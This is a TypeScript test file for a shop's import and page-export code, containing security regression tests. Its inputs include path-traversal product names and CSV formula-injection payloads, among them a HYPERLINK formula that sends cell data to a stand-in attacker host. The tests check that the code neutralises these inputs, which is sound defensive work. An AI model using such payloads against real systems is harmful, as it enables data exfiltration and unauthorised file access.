import { afterAll, expect, test } from 'bun:test'
import { existsSync, mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createProductSearch } from '../../src/catalogue/search/product-search.ts'
import { workOnImport } from '../../src/import-export/run-batches.ts'
import { composePages } from '../../src/page-cache/compose.ts'
import { exportPages } from '../../src/page-cache/export.ts'
import { listenToDatabase } from '../../src/platform/database/listener.ts'
import { loadConfig } from '../../src/platform/runtime/config.ts'
import { silentLog } from '../../src/platform/runtime/log.ts'
import { createMetrics } from '../../src/platform/runtime/metrics.ts'
import { productPath } from '../../src/shared/paths.ts'
import { givenAdmin, TEST_ACCOUNTS } from '../../src/testing/account.ts'
import { createTestApp } from '../../src/testing/app.ts'
import { givenCategory, givenProduct } from '../../src/testing/catalogue.ts'

const shop = await createTestApp()
const { db } = shop
const { media } = TEST_ACCOUNTS
const admin = await givenAdmin(shop)
const directory = mkdtempSync(join(tmpdir(), 'tokri-files-'))
afterAll(() => rmSync(directory, { recursive: true }))

// security 18
test('an export of the pages stays in its folder, and no words of a product stop it', async () => {
  const category = await givenCategory(db, '/media/../../robots.txt')
  const missing = 'f'.repeat(32)
  const names = [
    '/media/../../../../robots.txt',
    'https://evil.example/media/../../../../robots.txt',
    `/product/nothing-${missing}`,
    `href="/product/nothing-${missing}" src="/media/nothing"`,
    `<loc>/product/nothing-${missing}</loc>`,
    ', /media/nothing-there',
    '../../robots.txt',
  ]
  const products: { id: string; name: string }[] = []
  for (const name of names)
    products.push({ id: await givenProduct(db, { name, description: name, categoryIds: [category] }), name })
  const events = listenToDatabase(shop.url, silentLog)
  afterAll(() => events.close())
  const result = await composePages({
    config: loadConfig({}),
    db,
    events,
    search: createProductSearch({ db }),
    media,
    metrics: createMetrics(),
    log: silentLog,
    app: { handles: () => false, handle: () => new Response(null) },
  })
  const ask = async (target: string) =>
    result(new Request(`http://localhost${target}`, { headers: { Host: 'localhost' } }), { requestIP: () => null })
  const out = join(directory, 'a/b/c/out')
  const report = await exportPages(ask, ['/', '/robots.txt', '/sitemap.xml', ...products.map(productPath)], out)
  expect(report.leftOut).toEqual([])
  expect(existsSync(join(out, 'robots.txt'))).toBe(true)
  expect(['', 'a', 'a/b', 'a/b/c'].map((folder) => readdirSync(join(directory, folder)))).toEqual([
    ['a'],
    ['b'],
    ['c'],
    ['out'],
  ])
})

// security 22
test('no cell of the faulty rows begins a formula, the reason neither', async () => {
  const formulas = [
    '=HYPERLINK("http://evil.example?"&A1,"see")',
    '+cmd',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '＝1',
    ' =1',
    '\u00a0=1',
    '\u3000=1',
  ]
  for (const formula of formulas) {
    const quoted = formula.replaceAll('"', '""')
    const form = new FormData()
    form.set('file', new File([`Name,Price,"${quoted}"\nMilk,54,"${'x'.repeat(2_500)}"\n"${quoted}",free,\n`], 'a.csv'))
    const send = (method: string, path: string, body: FormData | string) =>
      shop.app.handle(
        new Request(`http://localhost${path}`, {
          method,
          headers: { ...admin.headers, ...(typeof body === 'string' && { 'content-type': 'application/json' }) },
          body,
        }),
      )
    const { data } = await (await send('POST', '/api/import', form)).json()
    await workOnImport({ db, media }, data._id)
    const mapping = ['name', 'price', 'detail']
    await send('POST', '/api/import/check', JSON.stringify({ importId: data._id, mapping, money: 'rupees' }))
    await workOnImport({ db, media }, data._id)
    const errors = await shop.app.handle(
      new Request(`http://localhost/api/import/faults?importId=${data._id}`, { headers: admin.headers }),
    )
    const text = await errors.text()
    expect(text).toContain('longer than')
    expect(text).not.toMatch(/(?:^|\n|,)"?(?:[^\S\n]*[=+\-@＝]|\t)/)
  }
})

test('a file of more parts than 256 MB has, or of none, is refused with its first part', async () => {
  const start = async (parts: number | string) => {
    const form = new FormData()
    form.set('file', new File(['Name,Price\n'], 'a.csv'))
    form.set('parts', String(parts))
    const request = new Request('http://localhost/api/import', { method: 'POST', headers: admin.headers, body: form })
    return (await shop.app.handle(request)).json()
  }
  for (const parts of [65, 0, -1, 1.5, 'NaN', ''])
    expect((await start(parts)).message).toBe('parts must be a whole number from 1 to 64: a file may have 256 MB')
  expect(await start(64)).toMatchObject({ success: true })
})
